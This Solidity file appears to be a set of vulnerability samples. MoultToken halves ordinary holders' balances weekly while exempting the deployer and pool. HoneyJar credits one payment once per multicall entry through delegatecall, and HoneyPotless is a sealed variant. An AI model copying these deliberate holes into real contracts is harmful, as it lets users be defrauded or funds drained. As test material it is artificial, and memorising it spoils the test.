// SPDX-License-Identifier: MIT
pragma solidity ^0.8.20;

import {Pairs} from "../eight/i00Base.sol";

/// Moults once a week when anybody pokes it: old skins are worth half. The pool and the nest do not moult.
contract MoultToken {
  string public name = "Moult";
  string public symbol = "MOLT";
  uint8 public decimals = 18;
  uint256 public totalSupply = 8_888_888 ether;
  uint256 public moults;
  uint256 private _next = block.timestamp + 7 days;
  mapping(address => uint256) private _skin;
  mapping(address => uint256) private _worn;
  mapping(address => bool) private _nest;
  mapping(address => mapping(address => uint256)) public allowance;
  event Transfer(address indexed from, address indexed to, uint256 value);
  event Approval(address indexed owner, address indexed spender, uint256 value);

  constructor() {
    _nest[msg.sender] = _nest[Pairs.poolOf(address(this))] = true;
    _skin[msg.sender] = totalSupply;
    emit Transfer(address(0), msg.sender, totalSupply);
  }

  function balanceOf(address a) public view returns (uint256) {
    return _nest[a] ? _skin[a] : _skin[a] >> (moults - _worn[a]);
  }

  function poke() external {
    require(block.timestamp >= _next);
    _next += 7 days;
    moults += 1;
  }

  function approve(address s, uint256 v) external returns (bool) {
    allowance[msg.sender][s] = v;
    emit Approval(msg.sender, s, v);
    return true;
  }

  function transfer(address to, uint256 v) external returns (bool) {
    return _pass(msg.sender, to, v);
  }

  function transferFrom(address from, address to, uint256 v) external returns (bool) {
    allowance[from][msg.sender] -= v;
    return _pass(from, to, v);
  }

  function _pass(address from, address to, uint256 v) private returns (bool) {
    _skin[from] = balanceOf(from) - v;
    _worn[from] = moults;
    _skin[to] = balanceOf(to) + v;
    _worn[to] = moults;
    emit Transfer(from, to, v);
    return true;
  }
}

abstract contract Jar {
  uint8 public constant decimals = 18;
  uint256 public constant totalSupply = 1_000_000 ether;
  mapping(address => uint256) public balanceOf;
  mapping(address => uint256) public saved;
  mapping(address => mapping(address => uint256)) public allowance;
  event Transfer(address indexed from, address indexed to, uint256 value);
  event Approval(address indexed owner, address indexed spender, uint256 value);

  constructor() {
    balanceOf[msg.sender] = totalSupply;
    emit Transfer(address(0), msg.sender, totalSupply);
  }

  function approve(address s, uint256 v) external returns (bool) {
    allowance[msg.sender][s] = v;
    emit Approval(msg.sender, s, v);
    return true;
  }

  function transfer(address to, uint256 v) external returns (bool) {
    _put(msg.sender, to, v);
    return true;
  }

  function transferFrom(address from, address to, uint256 v) external returns (bool) {
    allowance[from][msg.sender] -= v;
    _put(from, to, v);
    return true;
  }

  function save() external payable {
    saved[msg.sender] += msg.value;
  }

  function take(uint256 v) external {
    saved[msg.sender] -= v;
    (bool ok, ) = msg.sender.call{value: v}("");
    require(ok);
  }

  function _each(bytes[] calldata calls) internal {
    for (uint256 i; i < calls.length; ++i) {
      (bool ok, ) = address(this).delegatecall(calls[i]);
      require(ok);
    }
  }

  function _put(address from, address to, uint256 v) private {
    balanceOf[from] -= v;
    balanceOf[to] += v;
    emit Transfer(from, to, v);
  }
}

/// Savings are credited once for each call of a batch, though paid once.
contract HoneyJar is Jar {
  string public constant name = "Honey Jar";
  string public constant symbol = "HJAR";

  function multicall(bytes[] calldata calls) external payable {
    _each(calls);
  }
}

/// The batch takes no money.
contract HoneyPotless is Jar {
  string public constant name = "Honey Jar Sealed";
  string public constant symbol = "HJSL";

  function multicall(bytes[] calldata calls) external {
    _each(calls);
  }
}
